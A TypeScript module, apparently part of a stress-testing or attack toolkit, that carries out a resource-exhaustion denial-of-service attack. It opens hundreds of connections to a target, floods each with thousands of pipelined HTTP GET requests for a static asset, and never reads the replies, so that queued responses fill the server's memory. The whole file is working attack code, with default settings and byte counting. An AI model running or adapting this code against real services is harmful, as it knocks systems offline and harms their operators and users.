/**
 * Pipelined requests whose replies are never read, so that waiting replies fill the memory of the service.
 *
 * @module
 */
import type { Target } from '../target.ts'
import { openConnections, pause, untilClosed } from './raw-connection.ts'

export interface UnreadPipelines {
  readonly connections: number
  readonly requestsEach: number
  readonly path: string
}

export interface UnreadPipelinesFigures {
  readonly connected: number
  readonly sentBytes: number
}

/** Runs until the signal aborts. */
export async function sendUnreadPipelines(
  target: Target,
  signal: AbortSignal,
  {
    connections = 600,
    requestsEach = 2000,
    path = '/watch/assets/hls.min.js',
  }: Partial<UnreadPipelines> = {},
): Promise<UnreadPipelinesFigures> {
  const sockets = await openConnections(target, connections, signal)
  const pipeline = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`.repeat(requestsEach))
  for (const socket of sockets) {
    if (!socket.destroyed) socket.write(pipeline)
    await pause(0, signal)
  }
  await untilClosed(sockets, signal)
  const sentBytes = sockets.reduce((sum, { bytesWritten }) => sum + bytesWritten, 0)
  return { connected: sockets.length, sentBytes }
}
